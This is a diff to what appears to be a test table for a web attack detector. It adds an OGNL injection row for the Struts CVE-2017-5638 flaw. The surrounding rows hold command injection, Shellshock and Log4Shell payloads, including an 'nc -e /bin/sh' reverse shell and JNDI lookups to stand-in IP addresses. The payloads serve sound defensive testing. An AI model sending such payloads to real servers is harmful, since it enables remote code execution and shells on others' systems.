@@ -80,6 +80,7 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['command injection in a JSON body', post('application/json', '{"target":"x | nc -e /bin/sh 192.0.2.1 4444"}'), CMDI, 'json', 'target'],
   ['command injection in a multipart field', multipart('host', 'example.com$(uname -a)'), CMDI, 'multipart', 'host'],
   ['Shellshock in the User-Agent', get('/cgi-bin/status').replace(/User-Agent: [^\r]*/, "User-Agent: () { :; }; /bin/bash -c 'id'"), CMDI, 'header', 'user-agent'],
+  ['OGNL injection (Struts CVE-2017-5638) in the Content-Type', get('/upload.action', "Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check-Struts', 'x')}.multipart/form-data\r\n"), CMDI, 'header', 'content-type'],
   ['command injection in a cookie', get('/', 'Cookie: theme=dark%60id%60\r\n'), CMDI, 'cookie', 'theme'],
   ['log4shell in a custom header', get('/', 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n'), LOG4SHELL, 'header', 'x-api-version'],
   ['log4shell with nested lookups in the User-Agent', get('/').replace(/User-Agent: [^\r]*/, 'User-Agent: ${${lower:j}${upper:n}${::-d}${env:NONE:-i}:${lower:l}dap://198.51.100.7/a}'), LOG4SHELL, 'header', 'user-agent'],
